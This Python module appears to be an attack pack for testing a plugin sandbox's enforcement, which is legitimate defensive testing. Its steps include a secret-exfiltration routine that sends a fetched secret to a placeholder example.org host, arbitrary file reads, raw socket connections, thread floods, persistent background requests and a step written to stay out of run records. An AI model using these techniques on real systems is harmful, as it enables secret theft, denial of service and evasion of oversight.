"""Does what its input lists, and answers what came of each step: one approved pack for every attack."""

import base64
import importlib
import json
import os
import socket
import sys
import threading
import time
import urllib.parse

import rumi_ask
import rumi_capability
import rumi_syscall


def run(input_data, context):
    return [STEPS[step[0]](context, *step[1:]) for step in input_data["steps"]]


def call(context, permission_id, args=None):
    return rumi_capability.call(permission_id, args)


def request(context, wish):
    return rumi_syscall.http_request(**wish)


def context_request(context, wish):
    return context["http_request"](**wish)


def shortcuts(context, url):
    """Every way to say a request that the module has."""
    return [
        rumi_syscall.get(url),
        rumi_syscall.post(url, "text"),
        rumi_syscall.post_json(url, {"a": 1}),
        rumi_syscall.put(url, "text"),
        rumi_syscall.delete(url),
        rumi_syscall.patch(url, "text"),
        rumi_syscall.head(url),
    ]


def check(context, domain, port):
    return context["network_check"](domain, port)


def raw(context, message):
    """A message as the modules would never send it."""
    return rumi_ask.ask(message)


def many(context, count, permission_id, args):
    """Asks from as many threads as it can; how often each outcome came."""
    outcomes = []

    def one():
        outcomes.append(rumi_capability.call(permission_id, args)["error_type"] or "ok")

    threading.stack_size(1 << 18)
    left = count
    while left > 0:
        batch = [threading.Thread(target=one) for _ in range(min(25, left))]
        left -= len(batch)
        for thread in batch:
            thread.start()
        for thread in batch:
            thread.join()
    return {outcome: outcomes.count(outcome) for outcome in set(outcomes)}


def repeat(context, count, wish):
    outcomes = [rumi_syscall.http_request(**wish)["error_type"] or "ok" for _ in range(count)]
    return {outcome: outcomes.count(outcome) for outcome in set(outcomes)}


def large(context, size):
    return rumi_capability.call("store.set", {"store_id": "mine", "key": "k", "value": "x" * size})["error_type"]


def hidden(context, text):
    """A step that is written backwards, so that it is in no record of the run; neither is what came of it."""
    done = run({"steps": [json.loads(text[::-1])]}, context)[0]
    return [done["success"], done["error_type"]]


def descend(context, level):
    """Each level runs the flow below it; the answer of the last one that may comes up through all of them."""
    inputs = {"steps": [["descend", level + 1]]}
    answer = rumi_capability.call("flow.run", {"flow_id": "alpha.d%d" % (level + 1), "inputs": inputs})
    if not answer["success"]:
        return [level, answer["error_type"]]
    return answer["output"]["result"]["answer"][0]


def leak(context, key):
    """Shows a secret in every way that a block has."""
    value = rumi_capability.call("secrets.get", {"key": key})["output"]["value"]
    data = value.encode()
    REMEMBERED.append(value)
    print(value, file=sys.stderr)
    print(value)
    kept = rumi_capability.call("store.set", {"store_id": "mine", "key": "leak", "value": value})
    rumi_capability.call("store.set", {"store_id": value, "key": value, "value": 1})
    rumi_capability.call(value, {"principal_id": value}, 30.0, value)
    rumi_syscall.get("https://" + value.lower() + ".example.org/" + value + "?q=" + value, headers={"X-Key": value})
    return {
        "length": len(value),
        "kept": kept["error_type"],
        "plain": value,
        "base64": base64.b64encode(data).decode(),
        "url": base64.urlsafe_b64encode(data).decode(),
        "hex": data.hex(),
        "percent": urllib.parse.quote(value, safe=""),
        value: "as a key",
    }


def recall(context):
    """What this process was given before, in another call."""
    return REMEMBERED


def scream(context, key):
    raise RuntimeError(rumi_capability.call("secrets.get", {"key": key})["output"]["value"])


def failure(context, act):
    """What the operating system says; `done` when it lets it happen."""
    try:
        act()
        return "done"
    except OSError as error:
        return os.strerror(error.errno) if error.errno else str(error)


def read(context, path):
    return failure(context, lambda: open(path, "rb").read() if os.path.isfile(path) else os.listdir(path))


def connect(context, host, port):
    return failure(context, lambda: socket.create_connection((host, port), 1))


def beacon(context, count, wish):
    for _ in range(count):
        rumi_syscall.http_request(**wish)


def linger(context, permission_id, args):
    """Goes on asking when the answer is given."""

    def ask_on():
        while True:
            rumi_capability.call(permission_id, args)
            time.sleep(0.001)

    threading.Thread(target=ask_on, daemon=True).start()
    return "answered"


def module(context):
    return [rumi_capability.__file__, rumi_syscall.__file__]


def load(context, name):
    """What comes of an import."""
    try:
        return importlib.import_module(name).__name__
    except ImportError as error:
        return str(error)


REMEMBERED = []
STEPS = {
    step.__name__: step
    for step in [call, request, context_request, shortcuts, check, raw, many, repeat, large, hidden, descend, leak]
    + [recall, scream, read, connect, beacon, linger, module, load]
}
